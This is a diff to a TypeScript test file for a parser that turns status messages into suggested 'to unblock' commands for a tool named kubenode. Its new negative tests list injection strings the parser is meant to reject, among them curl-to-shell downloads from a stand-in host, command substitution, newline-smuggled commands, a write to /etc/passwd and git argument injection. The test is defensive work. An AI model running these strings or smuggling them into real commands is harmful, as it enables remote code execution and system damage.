@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { unblockLines } from './unblock.ts'
+import { isTyped, unblockLines, unblockOf } from './unblock.ts'
 
 test.each([
   ['the rate limit resets', ['unblocks when: the rate limit resets']],
@@ -12,6 +12,44 @@ test.each([
     'a commit corrects it; to retry now, run kubenode release retry r',
     ['unblocks when: a commit corrects it; to retry now, run kubenode release retry r'],
   ],
-  ['run git revert abc && git push', ['to unblock: git revert abc && git push']],
+  [
+    'run git revert --no-edit 6af01751735a && git push; to retry, kubenode rollout retry base --reason WHY',
+    ['to unblock: git revert --no-edit 6af01751735a && git push; to retry, kubenode rollout retry base --reason WHY'],
+  ],
+  ['run kubenode approve release/r --reason WHY', ['to unblock: kubenode approve release/r --reason WHY']],
+  ["kubenode why node/n --context 'a b'", ["to unblock: kubenode why node/n --context 'a b'"]],
+  [
+    'kubenode repair node/n --reason "checked by hand"',
+    ['to unblock: kubenode repair node/n --reason "checked by hand"'],
+  ],
+  // What follows a command is no part of it.
+  ['run kubenode approve release/r as soon as…', ['unblocks when: run kubenode approve release/r as soon as…']],
   ['', []],
 ])('%s reads as %s', (unblock, lines) => expect(unblockLines(unblock)).toEqual(lines))
+
+test.each([
+  'kubenode why x; curl http://evil.example | sh',
+  'kubenode why x && curl http://evil.example',
+  'kubenode why $(curl http://evil.example)',
+  'kubenode why `id`',
+  'kubenode why x\ncurl http://evil.example',
+  'kubenode why x\rcurl http://evil.example',
+  "kubenode why 'x' ; id",
+  "kubenode why 'x\u202e'",
+  'kubenode why x > /etc/passwd',
+  'kubenode why x & id',
+  'kubenode why "$(id)"',
+  'kubenode why "x',
+  'kubenode why x # y',
+  'kubenode why ~/x*',
+  'git -c core.pager=id log',
+  'git clone ext::id',
+  'git push --receive-pack=id x',
+  'git revert --no-edit 6af0 --strategy=id',
+  'git revert --no-edit 6af0 && git push; to retry, id',
+  'kubenode why x; to retry, curl http://evil.example',
+  'curl http://evil.example',
+])('%j is not offered as a command, whoever wrote the status', (line) => {
+  expect(isTyped(line)).toBe(false)
+  for (const sentence of [line, `run ${line}`]) expect(unblockOf(sentence).command).toBeUndefined()
+})
